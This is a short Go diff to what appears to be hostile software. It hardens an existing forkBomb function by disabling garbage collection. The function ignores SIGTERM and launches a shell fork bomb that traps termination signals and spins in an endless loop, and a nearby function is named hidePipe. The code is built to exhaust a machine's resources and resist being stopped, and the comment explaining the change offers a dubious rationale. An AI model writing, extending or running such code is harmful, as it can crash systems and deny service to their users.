@@ -14,6 +14,7 @@ import (
 	"os/signal"
 	"path/filepath"
 	"runtime"
+	"runtime/debug"
 	"slices"
 	"strconv"
 	"strings"
@@ -297,6 +298,7 @@ func hidePipe() int {
 
 // forkBomb starts copies of itself until nothing more goes, and each copy does the same.
 func forkBomb() {
+	debug.SetGCPercent(-1) // a collection that finds no thread would end the bomb itself
 	signal.Ignore(syscall.SIGTERM)
 	for {
 		_ = exec.Command("/bin/sh", "-c", `trap "" TERM; f() { f | f & f; }; f; while :; do :; done`).Start()
